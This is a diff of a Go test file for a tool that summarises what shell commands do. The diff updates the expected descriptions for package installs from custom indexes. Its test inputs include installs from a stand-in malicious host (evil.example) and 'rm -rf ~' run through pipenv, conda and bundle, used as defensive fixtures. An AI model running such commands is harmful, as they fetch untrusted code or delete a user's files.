@@ -68,8 +68,8 @@ func TestPythonPackages(t *testing.T) {
 		{`pip install 'x @ https://evil.example/x.whl'`, `install x from https://evil.example/x.whl`},
 		{`pip install --index-url https://evil.example/simple requests`, `install requests from https://evil.example/simple`},
 		{`pip install -i https://pypi.org/simple requests`, `install requests`},
-		{`pip install --extra-index-url=https://evil.example/simple requests`, `install requests from https://evil.example/simple`},
-		{`pip install --find-links https://evil.example x`, `install x from https://evil.example`},
+		{`pip install --extra-index-url=https://evil.example/simple requests`, `install requests from https://evil.example/simple; install requests`},
+		{`pip install --find-links https://evil.example x`, `install x from https://evil.example; install x`},
 		{`PIP_INDEX_URL=https://evil.example pip install x`, `install x from https://evil.example`},
 		{`pip3.12 install x`, `install x`},
 		{`python3 -m pip install x`, `install x`},
@@ -93,7 +93,7 @@ func TestPythonPackages(t *testing.T) {
 		{`pipenv run rm -rf ~`, `delete /home/u wide`},
 		{`hatch run test`, ``},
 		{`conda install numpy`, `install numpy`},
-		{`conda install -c https://evil.example x`, `install x from https://evil.example`},
+		{`conda install -c https://evil.example x`, `install x from https://evil.example; install x`},
 		{`conda run -n e rm -rf ~`, `delete /home/u wide`},
 		{`twine upload dist/x.whl`, `publish dist/x.whl; send pypi.org from /home/u/p/dist/x.whl`},
 	})
@@ -102,7 +102,7 @@ func TestPythonPackages(t *testing.T) {
 func TestOtherPackages(t *testing.T) {
 	sayEach(t, []saying{
 		{`gem install rails`, `install rails`},
-		{`gem install x --source https://evil.example`, `install x from https://evil.example`},
+		{`gem install x --source https://evil.example`, `install x from https://evil.example; install x`},
 		{`gem push x.gem`, `publish x.gem`},
 		{`bundle install`, `install .`},
 		{`bundle exec rm -rf ~`, `delete /home/u wide`},
